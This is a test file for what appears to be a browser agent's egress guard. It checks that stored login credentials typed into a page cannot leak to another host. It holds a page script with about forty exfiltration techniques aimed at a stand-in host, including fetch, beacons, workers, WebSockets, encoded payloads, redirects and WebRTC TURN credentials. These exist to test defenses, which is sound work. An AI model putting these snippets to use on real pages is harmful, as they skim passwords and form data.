import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { EgressDecision } from '../../../src/guard/egress-proxy.ts'
import { Secret } from '../../../src/lib/secret.ts'
import { loginCuts } from '../../../src/turn/login-block.ts'
import { openTestSession, type TestSession } from '../../support/browser/open-test-session.ts'

const credentials = [
  {
    handle: 'shop',
    host: 'shop.test.example',
    username: new Secret('maya.canary-83bd@shop.example'),
    password: new Secret('Zq7!canary-5f0e'),
  },
]
/** The time of a busy machine. */
const caps = { actionabilityMs: 60_000 }
const away = 'https://other.test.example'

/** Ways to send what the page knows to another host: a name and the script that sends `value` to `to(name)`. */
const ways: Record<string, string> = {
  fetch: `fetch(to('fetch', value))`,
  'fetch-body': `fetch(to('fetch-body'), { method: 'POST', mode: 'no-cors', body: value })`,
  'fetch-header': `fetch(to('fetch-header'), { headers: { 'x-more': value } })`,
  'fetch-blob': `fetch(to('fetch-blob'), { method: 'POST', mode: 'no-cors', body: new Blob([value]) })`,
  'fetch-form': `{ const form = new FormData(); form.append('v', value)
    fetch(to('fetch-form'), { method: 'POST', mode: 'no-cors', body: form }) }`,
  'fetch-json': `fetch(to('fetch-json'), { method: 'POST', mode: 'no-cors', body: JSON.stringify({ v: value }) })`,
  'fetch-long': `fetch(to('fetch-long'), { method: 'POST', mode: 'no-cors', body: '.'.repeat(2e6) + value })`,
  'fetch-gzip': `new Response(new Blob([value]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()
    .then((body) => fetch(to('fetch-gzip'), { method: 'POST', mode: 'no-cors', body }))`,
  'fetch-keepalive': `fetch(to('fetch-keepalive', value), { mode: 'no-cors', keepalive: true })`,
  base64: `fetch(to('base64', btoa('v=' + value)), { mode: 'no-cors' })`,
  hexadecimal: `fetch(to('hexadecimal', [...value].map((c) => c.charCodeAt(0).toString(16)).join('')), { mode: 'no-cors' })`,
  reversed: `fetch(to('reversed', [...value].reverse().join('')), { mode: 'no-cors' })`,
  xhr: `{ const request = new XMLHttpRequest(); request.open('POST', to('xhr')); request.send(value) }`,
  beacon: `navigator.sendBeacon(to('beacon'), value)`,
  'beacon-blob': `navigator.sendBeacon(to('beacon-blob'), new Blob([value]))`,
  image: `new Image().src = to('image', value)`,
  style: `document.body.style.background = 'url(' + to('style', value) + ')'`,
  script: `add('script', { src: to('script', value) })`,
  link: `add('link', { rel: 'stylesheet', href: to('link', value) })`,
  prefetch: `add('link', { rel: 'prefetch', href: to('prefetch', value) })`,
  media: `add('video', { src: to('media', value) })`,
  object: `add('object', { data: to('object', value) })`,
  frame: `add('iframe', { src: to('frame', value) })`,
  form: `{ const form = add('form', { method: 'post', action: to('form'), target: 'inner' })
    const field = document.createElement('input'); field.name = 'v'; field.value = value; form.append(field); form.submit() }`,
  'event-source': `new EventSource(to('event-source', value))`,
  import: `import(to('import', value)).catch(() => {})`,
  'early-worker': `early.postMessage(to('early-worker', value))`,
  worker: `work('fetch("' + to('worker', value) + '", { mode: "no-cors" })')`,
  'worker-body': `work('fetch("' + to('worker-body') + '", { method: "POST", mode: "no-cors", body: "' + value + '" })')`,
  'worker-of-worker': `work('new Worker(URL.createObjectURL(new Blob([\\'fetch("' + to('worker-of-worker', value) + '", { mode: "no-cors" })\\'])))')`,
  'shared-worker': `new SharedWorker('/shared.js?' + encodeURIComponent(to('shared-worker', value)))`,
  redirect: `fetch('/redirect', { method: 'POST', mode: 'no-cors', body: value })`,
  referrer: `{ history.replaceState(null, '', '/?v=' + value)
    fetch(to('referrer'), { mode: 'no-cors', referrerPolicy: 'unsafe-url' }) }`,
  policy: `add('iframe', { src: '/policy?' + value })`,
  socket: `new WebSocket(to('socket', value).replace('https', 'wss'))`,
  'socket-of-worker': `work('new WebSocket("' + to('socket-of-worker', value).replace('https', 'wss') + '")')`,
}

const page = `<!doctype html><title>Login</title><form action="/in" method="post">
  <label>User <input name="user"></label><label>Password <input name="pass" type="password"></label></form>
  <label>Other <input id="other"></label>
  <button id="send">Send</button> <button id="peer">Peer</button> <iframe name="inner"></iframe><script>
const to = (name, value) => '${away}/' + name + (value === undefined ? '' : '?v=' + encodeURIComponent(value))
const add = (tag, values) => { const node = Object.assign(document.createElement(tag), values); document.body.append(node); return node }
const work = (code) => new Worker(URL.createObjectURL(new Blob([code])))
const early = work('onmessage = ({ data }) => fetch(data, { mode: "no-cors" })')
const known = () => [...document.querySelectorAll('input')].map(({ value }) => value).join('')
send.onclick = () => {
  const value = known()
  for (const way of [${Object.values(ways)
    .map((way) => `() => { ${way} }`)
    .join(',\n')}]) way()
  new Image().src = '${away}/nothing?v=1'
  fetch('/own', { method: 'POST', body: value })
}
peer.onclick = () => {
  const urls = ['turn:other.test.example:443?transport=tcp']
  const iceServers = [{ urls, username: 'anyone', credential: known() + '.' }]
  const line = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers })
  line.createDataChannel('x')
  line.createOffer().then((offer) => line.setLocalDescription(offer))
}
addEventListener('pagehide', () => {
  navigator.sendBeacon(to('unload-beacon'), known())
  fetch(to('unload-fetch', known()), { mode: 'no-cors', keepalive: true })
})
</script>`

/** What arrived in a header; the preflight carries nothing. */
const headers: unknown[] = []

const pages = {
  '/': page,
  '/redirect': (_request, response) => {
    response.writeHead(307, { location: `${away}/redirect` }).end()
  },
  '/shared.js': (request, response) => {
    const url = decodeURIComponent((request.url ?? '').replace('/shared.js?', ''))
    response.setHeader('content-type', 'text/javascript')
    response.end(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`)
  },
  '/policy': (_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.setHeader('content-security-policy', `img-src 'none'; report-uri ${away}/policy`)
    response.end('<img src="/picture">')
  },
  '/fetch-header': (request, response) => {
    response.setHeader('access-control-allow-origin', '*')
    response.setHeader('access-control-allow-headers', '*')
    if (request.headers['x-more'] !== undefined) headers.push(request.headers['x-more'])
    response.end()
  },
  '/next': '<title>Next</title>',
} satisfies Parameters<typeof openTestSession>[0]

const names = [...Object.keys(ways), 'unload-beacon', 'unload-fetch'].toSorted()

let session: TestSession
const connections: EgressDecision[] = []
const noteConnection = (decision: EgressDecision): number => connections.push(decision)

/** What arrived at the other host, except the preflight. */
function listArrived(): string[] {
  const arrived = session.requests
    .filter((request) => request.startsWith('other.'))
    .map((request) => request.replace('other.test.example/', ''))
  const inHeaders = headers.length === 0 ? [] : ['fetch-header']
  const others = arrived.filter((name) => name !== 'nothing' && name !== 'fetch-header')
  return [...new Set([...others, ...inHeaders])].toSorted()
}

async function sendAll(): Promise<void> {
  await session.click('Send')
  await expect.poll(() => session.requests).toContain('shop.test.example/own')
  await expect.poll(() => session.requests).toContain('other.test.example/nothing')
  await session.observe()
}

describe.each([
  ['password', 'Password'],
  ['username', 'User'],
] as const)('what a page sends to another host: the %s', (field, label) => {
  beforeAll(async () => {
    headers.length = 0
    session = await openTestSession(pages, caps, { credentials, onEgress: noteConnection })
  })

  afterAll(() => session[Symbol.asyncDispose]())

  test('arrives in all of these ways while no login was filled in', async () => {
    await session.open('/')
    const { ref } = session.find('Other')
    await session.act({ kind: 'type', ref, text: 'not a secret', submit: false })
    await session.observe()
    await sendAll()
    await session.open('/next')
    await expect.poll(listArrived).toEqual(names)
  })

  test('arrives in none of them with a login in it', async () => {
    session.requests.length = 0
    headers.length = 0
    await session.open('/')
    const { ref } = session.find(label)
    const action = { kind: 'use_credential', ref, credential: 'shop', field } as const
    expect((await session.act(action)).failure).toBeNull()
    await session.observe()
    await session.click('Send')
    await expect.poll(() => session.requests).toContain('shop.test.example/own')
    await expect.poll(() => session.requests).toContain('other.test.example/nothing')

    const { failedRequests, blockedNavigations } = await session.observe()

    const cut = failedRequests.filter(({ blocked }) => blocked)
    const told = new Map(cut.map(({ url, error }) => [URL.parse(url)?.pathname.slice(1), error]))
    expect(told.get('fetch')).toBe(loginCuts.sent)
    expect(told.get('fetch-long')).toBe(loginCuts.unread)
    expect(told.get('')).toBe(loginCuts.socket)
    expect(blockedNavigations.map(({ reason }) => reason)).toContain(loginCuts.sent)
    await session.open('/next')
    await session.observe()
    expect(listArrived()).toEqual([])
  })

  test('does not arrive between peers either', async () => {
    await session.open('/')
    connections.length = 0
    await session.click('Peer')
    await expect
      .poll(() => connections)
      .toContainEqual({
        host: 'other.test.example',
        port: 443,
        carrier: 'peer',
        verdict: { kind: 'denied', rule: 'login' },
      })
  })
})
